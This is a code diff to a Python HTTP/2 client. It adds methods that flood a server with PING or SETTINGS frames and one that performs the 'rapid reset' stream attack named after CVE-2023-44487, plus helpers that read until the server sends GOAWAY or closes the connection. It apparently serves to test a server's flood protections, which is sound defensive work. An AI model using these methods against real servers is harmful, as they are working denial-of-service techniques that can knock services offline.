@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import select
 import socket
 import ssl
 from dataclasses import dataclass, field
@@ -36,6 +37,9 @@ class H2Client:
         self.conn.initiate_connection()
         self.streams: dict[int, Stream] = {}
         self.goaway = False
+        self.goaway_code: int | None = None
+        self.closed = False
+        """The server closed the connection (or reset it)."""
         self._flush()
 
     def request(
@@ -90,9 +94,52 @@ class H2Client:
             if not self._pump():
                 break
 
+    def ping_flood(self, count: int) -> None:
+        """``count`` PING frames in one write; their ACKs are not read."""
+        for i in range(count):
+            self.conn.ping(i.to_bytes(8, "big"))
+        self._flush()
+
+    def settings_flood(self, count: int) -> None:
+        """``count`` SETTINGS frames (each changing nothing) in one write."""
+        for _ in range(count):
+            self.conn.update_settings({})
+        self._flush()
+
+    def rapid_reset(self, count: int, path: str = "/", authority: str = "localhost") -> None:
+        """CVE-2023-44487: ``count`` streams, each opened and at once reset, in one write."""
+        for _ in range(count):
+            stream_id = self.conn.get_next_available_stream_id()
+            self.conn.send_headers(
+                stream_id,
+                [
+                    (b":method", b"GET"),
+                    (b":scheme", b"https"),
+                    (b":authority", authority.encode()),
+                    (b":path", path.encode()),
+                ],
+                end_stream=True,
+            )
+            self.conn.reset_stream(stream_id)
+        self._flush()
+
+    def read_ready(self) -> None:
+        """Take in what the server has sent so far, without waiting for more."""
+        while not self.closed and (self.sock.pending() or select.select([self.sock], [], [], 0)[0]):
+            self._pump()
+
+    def read_until_goaway(self) -> None:
+        """Read until the server sends GOAWAY or closes the connection."""
+        while not self.goaway and not self.closed:
+            self._pump()
+
     def _pump(self) -> bool:
-        data = self.sock.recv(65536)
+        try:
+            data = self.sock.recv(65536)
+        except (ConnectionError, ssl.SSLError):
+            data = b""
         if not data:
+            self.closed = True
             return False
         for ev in self.conn.receive_data(data):
             stream = self.streams.get(getattr(ev, "stream_id", 0) or 0)
@@ -113,12 +160,13 @@ class H2Client:
                 stream.reset = True
             elif isinstance(ev, h2.events.ConnectionTerminated):
                 self.goaway = True
+                self.goaway_code = ev.error_code
         self._flush()
         return True
 
     def _flush(self) -> None:
         data = self.conn.data_to_send()
-        if data:
+        if data and not self.closed:
             self.sock.sendall(data)
 
     def close(self) -> None:
